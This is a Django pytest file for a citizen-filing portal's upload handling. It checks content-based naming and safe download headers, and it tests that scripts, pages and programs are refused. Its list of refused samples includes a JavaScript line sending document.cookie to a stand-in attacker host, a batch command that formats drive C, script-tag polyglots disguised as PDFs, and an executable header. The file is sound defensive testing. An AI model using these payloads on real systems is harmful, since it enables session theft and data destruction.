"""Filing on the portal: uploads are named and served by what they contain, never by what they are
called; scripts, pages and programs are refused with a message that lists what is allowed."""

import json
import re
import urllib.request
from urllib.parse import parse_qs, urlsplit

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import schema_context

from cases.index.models import CaseIndex
from cases.models import Attachment
from filestore.models import StagedUpload
from tests.filestore.conftest import s3_bucket  # noqa: F401 - fixture
from tests.filestore.samples import image_bytes, pdf_bytes
from tests.public_site.test_filing import fill, start

EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(200)
)
REFUSED = [
    ("x.js", b"fetch('https://evil.example/?c='+document.cookie)"),
    ("run.bat", b"@echo off\r\nformat c: /q\r\n"),
    ("a.svg", "一段文字，起了图片的名字。".encode()),
    ("setup.exe", EXECUTABLE),
    ("起诉材料.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("材料.pdf", b"<html><script>alert(1)</script></html>\n" + pdf_bytes()),
]


def xhr_upload(client, sid, name, data):
    return client.post("/file/upload/", {"submission_id": sid, "file": SimpleUploadedFile(name, data)})


def file_it(client, registered, sid) -> CaseIndex:
    fill(client, sid)
    client.post("/file/review/", {"submission_id": sid})
    return CaseIndex.objects.select_related("holder").get(citizen=registered)


def attachments_of(index) -> list[Attachment]:
    with schema_context(index.holder.schema_name):
        return list(Attachment.objects.filter(case_id=index.case_uuid))


def citizen_download(client, index, attachment):
    response = client.get(f"/mine/{index.case_uuid}/attachments/{attachment.pk}/")
    assert response.status_code == 302
    return response["Location"]


def test_a_jpeg_named_html_is_filed_stored_and_served_as_a_jpg(
    alice, registered, host_client, bureau, clerk, city
):
    sid = start(alice)
    data = image_bytes("JPEG")
    response = xhr_upload(alice, sid, "img.html", data)
    assert response.status_code == 201 and json.loads(response.content)["name"] == "img.jpg"
    index = file_it(alice, registered, sid)
    [attachment] = attachments_of(index)
    assert attachment.file_name == "img.jpg" and attachment.content_type == "image/jpeg"
    assert attachment.storage_key.endswith("/img.jpg")

    served = alice.get(citizen_download(alice, index, attachment))
    assert b"".join(served.streaming_content) == data
    assert served["Content-Type"] == "image/jpeg"
    assert served["Content-Disposition"] == 'attachment; filename="img.jpg"'
    assert served["X-Content-Type-Options"] == "nosniff"

    # The staff who open it in the workspace get the same, never a page.
    staff_client = host_client(bureau, clerk)
    page = staff_client.get(f"/case/{index.case_uuid}/").content.decode()
    link = re.search(r'<a href="(/files/[^"]+)">img\.jpg</a>', page)
    assert link, page
    served = staff_client.get(link.group(1))
    assert served["Content-Type"] == "image/jpeg" and served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Disposition"] == 'attachment; filename="img.jpg"'


@pytest.mark.parametrize(("name", "data"), REFUSED)
def test_scripts_pages_programs_and_polyglots_are_refused_with_what_is_allowed(alice, city, name, data):
    sid = start(alice)
    response = xhr_upload(alice, sid, name, data)
    assert response.status_code == 400
    answer = json.loads(response.content)
    assert answer["code"] == "upload_rejected"
    assert f"“{name}”" in answer["error"] and "允许上传" in answer["error"] and "PDF" in answer["error"]
    assert not StagedUpload.objects.filter(draft=sid).exists()  # the draft's uploads are rows now


def test_the_refusal_is_in_the_citizens_language(alice, city):
    alice.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    sid = start(alice)
    answer = json.loads(xhr_upload(alice, sid, "x.js", b"alert(1)").content)
    assert "“x.js”" in answer["error"] and "script" in answer["error"]
    assert "Allowed: PDF, images (JPEG, PNG, GIF, WebP)" in answer["error"]


def test_a_refused_file_in_the_form_says_why_and_keeps_the_typed_data(alice, city):
    sid = start(alice)
    response = fill(alice, sid, attachments=[SimpleUploadedFile("run.bat", b"@echo off\r\n")])
    assert response.status_code == 400
    page = response.content.decode()
    assert "run.bat" in page and ".txt" in page and "村道塌方无人修复" in page


def test_a_chinese_name_downloads_with_an_rfc_5987_filename(alice, registered, city):
    sid = start(alice)
    upload = SimpleUploadedFile("现场 照片.html", image_bytes("PNG"), content_type="text/html")
    assert fill(alice, sid, attachments=[upload]).status_code == 302
    alice.post("/file/review/", {"submission_id": sid})
    index = CaseIndex.objects.select_related("holder").get(citizen=registered)
    [attachment] = attachments_of(index)
    assert attachment.file_name == "现场 照片.png"
    served = alice.get(citizen_download(alice, index, attachment))
    assert served["Content-Type"] == "image/png"
    assert served["Content-Disposition"] == (
        "attachment; filename=\"file.png\"; filename*=utf-8''%E7%8E%B0%E5%9C%BA%20%E7%85%A7%E7%89%87.png"
    )


def test_on_s3_the_citizens_download_carries_the_derived_type(
    alice,
    registered,
    city,
    s3_bucket,  # noqa: F811 - fixture
):
    sid = start(alice)
    data = image_bytes("JPEG")
    assert xhr_upload(alice, sid, "img.html", data).status_code == 201
    index = file_it(alice, registered, sid)
    [attachment] = attachments_of(index)
    url = citizen_download(alice, index, attachment)
    assert parse_qs(urlsplit(url).query)["response-content-type"] == ["image/jpeg"]
    with urllib.request.urlopen(url, timeout=10) as response:  # noqa: S310 - loopback test endpoint
        assert response.read() == data
        assert response.headers["Content-Type"] == "image/jpeg"
        assert response.headers["Content-Disposition"] == 'attachment; filename="img.jpg"'
